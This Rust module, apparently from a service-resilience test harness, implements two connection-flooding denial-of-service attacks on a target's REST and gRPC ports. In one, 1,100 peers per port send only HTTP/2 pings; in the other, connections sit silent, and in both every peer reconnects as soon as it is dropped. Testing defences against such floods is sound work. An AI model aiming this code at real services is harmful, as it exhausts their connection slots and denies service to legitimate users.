//! Attacks on the number of connections: a crowd that takes every place, and takes it again as soon as it is free.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use super::Target;
use super::attacker::{FIRST_WINDOW_BYTES, Life, PING, Peer};
use super::found::Found;

/// More than a door has places by default.
const CROWD: u32 = 1_100;
const PINGS: Duration = Duration::from_secs(5);
/// Between one arrival and the next: what arrives faster than it is accepted is lost in the backlog of the system.
const ARRIVALS: Duration = Duration::from_millis(4);
/// Between the end of a connection and the next: attackers live across a network.
const RETURN: Duration = Duration::from_millis(100);

/// HTTP/2 connections that never ask for anything.
pub async fn pinging(on: Target) -> Found {
    crowd(on, |address, end| async move {
        let mut peer = Peer::open(address, FIRST_WINDOW_BYTES).await.ok()?;
        while peer.is_open() && Instant::now() < end {
            peer.send(PING, 0, 0, &[1; 8]).await;
            peer.stay(end.min(Instant::now() + PINGS)).await;
        }
        Some(peer.life())
    })
    .await
}

/// Connections that never say anything.
pub async fn silent(on: Target) -> Found {
    crowd(on, |address, end| async move {
        let mut peer = Peer::plain(address).await.ok()?;
        peer.stay(end).await;
        Some(peer.life())
    })
    .await
}

/// Lets everyone connect over and over until the end.
async fn crowd<C, F>(on: Target, connect: C) -> Found
where
    C: Fn(SocketAddr, Instant) -> F + Copy + Send + 'static,
    F: Future<Output = Option<Life>> + Send,
{
    let mut members = JoinSet::new();
    for address in [on.rest, on.grpc] {
        for member in 0..CROWD {
            members.spawn(async move {
                sleep(ARRIVALS * member).await;
                let mut lives = Vec::new();
                while Instant::now() < on.end {
                    lives.extend(connect(address, on.end).await);
                    sleep(RETURN).await;
                }
                lives
            });
        }
    }
    let mut found = Found::default();
    while let Some(lives) = members.join_next().await {
        lives.unwrap().into_iter().for_each(|life| found.add(life));
    }
    found
}
